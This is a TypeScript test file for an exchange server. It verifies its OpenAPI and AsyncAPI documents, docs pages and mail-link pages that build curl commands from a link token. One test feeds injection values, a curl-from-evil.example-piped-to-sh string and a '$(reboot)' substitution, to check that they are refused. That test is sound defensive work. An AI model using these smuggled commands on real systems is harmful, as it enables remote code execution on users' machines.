import { codesOf } from "@pandora-exchange/contract/codes"
import { failureOf } from "@pandora-exchange/contract/failures"
import { problems } from "@pandora-exchange/contract/problem"
import { offered } from "@pandora-exchange/contract/api"
import { RejectReason } from "@pandora-exchange/core"
import { afterAll, beforeAll, describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import { execFile } from "node:child_process"
import { rm, writeFile } from "node:fs/promises"
import { createRequire } from "node:module"
import { join } from "node:path"
import { promisify } from "node:util"
import { runInNewContext } from "node:vm"
import { onTestFinished } from "vitest"
import { pagesOf } from "../src/http/pages.ts"
import { version } from "../src/version.ts"
import { type InProcess, newFolder, startHere } from "./support.ts"

const redocly = createRequire(import.meta.url).resolve("@redocly/cli/bin/cli.js")

let server: InProcess
beforeAll(async () => {
  server = await startHere({ demo: false })
})
afterAll(() => server.close())

const textOf = async (path: string) => {
  const response = await fetch(server.url + path)
  return { text: await response.text(), headers: response.headers, status: response.status }
}

const servers = {
  "an exchange with users": true,
  "an exchange whose host has users of its own": false
}

describe.each(Object.entries(servers))("/openapi.json of %s", (_, users) => {
  it("is OpenAPI 3.1 with every route, each schema that is named is there, and every object of a request is closed", async () => {
    const url = "https://exchange.example"
    const pages = pagesOf({ users, url: () => url })
    const document = JSON.parse(await Effect.runPromise(pages["/openapi.json"]!.body))
    expect(document.openapi).toMatch(/^3\.1\./)
    expect(document.info).toMatchObject({ title: "Pandora Exchange", license: { name: "MIT" } })
    expect(document.info.version).toBe(version)
    expect(document.servers).toEqual([
      { url: "/", description: "The server that this document is from." }
    ])
    const routes = offered({ users }).flatMap(({ rest }) => (rest === undefined ? [] : [rest]))
    const described = Object.entries<Record<string, any>>(document.paths).flatMap(([path, item]) =>
      Object.keys(item).map((method) => `${method.toUpperCase()} ${path}`)
    )
    expect(described.toSorted()).toEqual(
      routes.map(({ method, path }) => `${method} ${path.replace(/:(\w+)/g, "{$1}")}`).toSorted()
    )
    const ids: Array<string> = []
    for (const [path, item] of Object.entries<Record<string, any>>(document.paths)) {
      for (const operation of Object.values(item)) {
        ids.push(operation.operationId)
        const [{ source }] = operation["x-codeSamples"]
        expect(source).toContain(`"${url}${path.split("{")[0]}`)
        expect(source.includes("Bearer $TOKEN")).toBe(operation.security.length > 0)
        // Parameters are shown as they can be sent: numbers as numbers.
        for (const { example, required, schema } of operation.parameters ?? []) {
          if (required) expect(example).toBeDefined()
          if (schema.type === "integer" && example !== undefined)
            expect(example).toBeTypeOf("number")
        }
        expect(operation.summary).toBeTruthy()
        expect(operation.description).toContain(operation.summary)
        const inPath = (operation.parameters ?? []).filter(
          (parameter: any) => parameter.in === "path"
        )
        expect(inPath.map(({ name }: any) => `{${name}}`)).toEqual(path.match(/\{\w+\}/g) ?? [])
        expect(Object.keys(operation.responses).length).toBeGreaterThan(0)
        for (const response of Object.values<any>(operation.responses))
          expect(response.description).toBeTruthy()
      }
    }
    expect(new Set(ids).size).toBe(ids.length)
    const references: Array<string> = []
    const walk = (value: unknown): void => {
      if (typeof value !== "object" || value === null) return
      if ("$ref" in value && typeof value.$ref === "string") references.push(value.$ref)
      for (const inner of Object.values(value)) walk(inner)
    }
    walk(document)
    for (const reference of references) {
      expect(document.components.schemas).toHaveProperty([
        reference.replace("#/components/schemas/", "")
      ])
    }
    const payloads = routes.flatMap(({ method, path }) => {
      const { requestBody } = document.paths[path.replace(/:(\w+)/g, "{$1}")][method.toLowerCase()]
      return requestBody === undefined
        ? []
        : [requestBody.content["application/json"].schema.$ref.split("/").at(-1)]
    })
    expect(payloads).toContain("PlaceOrder")
    const closed = (schema: any): boolean =>
      "$ref" in schema
        ? closed(document.components.schemas[schema.$ref.split("/").at(-1)])
        : "anyOf" in schema
          ? schema.anyOf.every(closed)
          : schema.additionalProperties === false
    for (const name of payloads)
      expect([name, closed(document.components.schemas[name])]).toEqual([name, true])
    expect(document.components.securitySchemes).toEqual({
      bearer: {
        type: "http",
        scheme: "bearer",
        description: "An access token, from `POST /v1/sessions`."
      }
    })
    for (const name of ["limit", "levels", "delay"])
      expect(JSON.stringify(document)).not.toContain(`"${name}":{"type":"string"`)
    // Each route lists exactly its own codes, with the status of each.
    for (const { name, rest, ...operation } of offered({ users })) {
      if (rest === undefined) continue
      const { responses } =
        document.paths[rest.path.replace(/:(\w+)/g, "{$1}")][rest.method.toLowerCase()]
      const listed = Object.entries<any>(responses).flatMap(([status, { description }]) =>
        [...description.matchAll(/^- `(\w+)`/gm)].map(([, code]) => [Number(status), code])
      )
      expect([name, listed]).toEqual([
        name,
        codesOf({ name, rest, ...operation }).map((code) => [failureOf(code).status, code])
      ])
    }
    // Private routes say so, and public ones do not.
    expect(document.paths["/v1/balances"].get.security).toEqual([{ bearer: [] }])
    expect(document.paths["/v1/markets"].get.security).toEqual([])
  })
})

it.each(Object.entries(servers))(
  "redocly finds nothing in the documents of %s",
  async (_, users) => {
    const folder = await newFolder()
    onTestFinished(() => rm(folder, { recursive: true }))
    const pages = pagesOf({ users, url: () => "https://exchange.example" })
    const names = ["openapi.json", "asyncapi.json"]
    for (const name of names)
      await writeFile(join(folder, name), await Effect.runPromise(pages[`/${name}`]!.body))
    const { stdout } = await promisify(execFile)(
      process.execPath,
      [redocly, "lint", "--extends=recommended", "--format=json", ...names],
      { cwd: folder, env: { REDOCLY_TELEMETRY: "off", REDOCLY_SUPPRESS_UPDATE_NOTICE: "true" } }
    )
    const found = stdout.split(/(?<=^\})/m).filter((report) => report.trim() !== "")
    expect(found.map((report) => JSON.parse(report).problems)).toEqual([[], []])
  }
)

it("scalar's rules: patterns without Unicode's properties, and every array has items", async () => {
  const { text } = await textOf("/openapi.json")
  expect(text).not.toContain("\\\\p{")
  const walk = (value: unknown): void => {
    if (typeof value !== "object" || value === null) return
    const { items, type } = value as { readonly type?: unknown; readonly items?: unknown }
    if (type === "array") expect(items).toBeTypeOf("object")
    for (const inner of Object.values(value)) walk(inner)
  }
  walk(JSON.parse(text).components)
})

it("/openapi.json is served as JSON", async () => {
  const { headers, text } = await textOf("/openapi.json")
  expect(headers.get("content-type")).toBe("application/json")
  expect(JSON.parse(text).info.title).toBe("Pandora Exchange")
})

it("/asyncapi.json has every channel and command of the stream, and each schema that is named is there", async () => {
  const { headers, text } = await textOf("/asyncapi.json")
  expect(headers.get("content-type")).toBe("application/json")
  const document = JSON.parse(text)
  expect(document.asyncapi).toBe("3.0.0")
  expect(document.channels.stream.address).toBe("/v1/stream")
  expect(document.servers).toEqual({
    exchange: { host: new URL(server.url).host, protocol: "ws" }
  })
  const { ask, follow } = document.operations
  const names = (operation: any) =>
    operation.messages.map(({ $ref }: any) => $ref.split("/").at(-1))
  expect(names(ask)).toEqual([
    "Authenticate",
    "SubscribeDepth",
    "SubscribeTrades",
    "SubscribeAccount",
    "Unsubscribe",
    ...offered({ users: true }).flatMap(({ name, stream }) => (stream === undefined ? [] : [name]))
  ])
  expect([...names(ask), ...names(follow)].toSorted()).toEqual(
    Object.keys(document.channels.stream.messages).toSorted()
  )
  const references = [...text.matchAll(/"#\/components\/schemas\/(\w+)"/g)].map(([, name]) => name!)
  expect(references.filter((name) => !(name in document.components.schemas))).toEqual([])
  // Draft 7 ignores anything beside a reference, and has no `prefixItems`.
  expect(text).not.toMatch(/"\$ref":"[^"]*",|"prefixItems"/)
})

describe("the pages", () => {
  it("/docs has the reference with all that it needs, and asks nobody else for anything", async () => {
    const { headers, text } = await textOf("/docs")
    expect(headers.get("content-type")).toBe("text/html; charset=utf-8")
    expect(text).toContain("createApiReference")
    expect(text).toContain("/v1/orders")
    const outside = /<(?:script|link|img|iframe|source)\b[^>]*\b(?:src|href)=["']?(?:https?:)?\/\//i
    const markup = text.replace(
      /<script\b[^>]*>[\s\S]*?<\/script>/gi,
      (script) => /<script[^>]*>/.exec(script)![0]
    )
    expect(markup).not.toMatch(outside)
    // Even if its script tried to, the browser would not allow it.
    const policy = headers.get("content-security-policy")!
    expect(policy).toContain("default-src 'none'")
    expect(policy).not.toMatch(/https?:|\*/)
  })

  it("/docs/stream has every message and command of the stream, and how a browser signs in", async () => {
    const { headers, text } = await textOf("/docs/stream")
    expect(headers.get("content-type")).toBe("text/html; charset=utf-8")
    const document = JSON.parse((await textOf("/asyncapi.json")).text)
    for (const name of Object.keys(document.channels.stream.messages))
      expect(text).toMatch(new RegExp(`<h3 id="${name}">${name}</h3>`))
    expect(text).toContain("send <code>authenticate</code> as the first message")
    expect(text).toContain('<a href="/docs">Routes</a>')
    expect(text).not.toMatch(/`|\]\(/)
  })

  it("/docs/errors has every code where its problem links to, with what to do", async () => {
    const { text } = await textOf("/docs/errors")
    for (const [code, { retry, status }] of problems) {
      expect(text).toContain(
        `<tr id="${code}"><td><code>${code}</code><td>${status}<td>${retry}<td>`
      )
    }
  })

  it.each([
    ["/register", "/v1/registrations/complete"],
    ["/reset", "/v1/password-resets/complete"],
    ["/email", "/v1/email-changes/complete"]
  ])("%s, where a mail leads, tells how to go on with the link's token", async (page, path) => {
    const { headers, status, text } = await textOf(page)
    expect([status, headers.get("referrer-policy")]).toEqual([200, "no-referrer"])
    const shown = { textContent: "" }
    const document = { querySelector: (name: string) => (name === "pre" ? shown : undefined) }
    const location = { hash: "#k1.a_token-of.mine", origin: server.url }
    runInNewContext(/<script>([\s\S]*)<\/script>/.exec(text)![1]!, { document, location })
    const [, body, url] = /^curl -H 'Content-Type: application\/json' -d '(.*)' (\S+)$/.exec(
      shown.textContent
    )!
    expect(url).toBe(server.url + path)
    const { token, ...others } = JSON.parse(body!)
    expect(token).toBe("k1.a_token-of.mine")
    // The route accepts all of its fields, and the token is not one of ours.
    const answer = await fetch(url!, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: body!
    })
    expect([answer.status, ((await answer.json()) as { readonly code: string }).code]).toEqual([
      422,
      "LinkRefused"
    ])
    expect(Object.keys(others).every((name) => ["password", "name"].includes(name))).toBe(true)
  })

  it("error: a link that is no link of ours becomes no command", async () => {
    const { text } = await textOf("/reset")
    const script = /<script>([\s\S]*)<\/script>/.exec(text)![1]!
    for (const hash of [
      "",
      "#x",
      "#x';{curl,-s,//evil.example}|sh;'",
      "#a.b.c.d",
      "#a.b.$(reboot)"
    ]) {
      const shown = { textContent: "" }
      runInNewContext(script, {
        document: { querySelector: () => shown },
        location: { hash, origin: "https://x" }
      })
      expect([hash, shown.textContent]).toEqual([
        hash,
        "This link is not whole: open it again from the mail."
      ])
    }
  })

  it("/ leads to all of them", async () => {
    const { text } = await textOf("/")
    for (const path of [
      "/docs",
      "/docs/stream",
      "/docs/errors",
      "/openapi.json",
      "/asyncapi.json",
      "/health/ready"
    ]) {
      expect(text).toContain(`href="${path}"`)
      expect((await textOf(path)).status).toBe(200)
    }
  })
})

it("every refusal of the venue is in the table of problems", () => {
  expect(RejectReason.rejectReasons.filter((code) => !problems.has(code))).toEqual([])
})
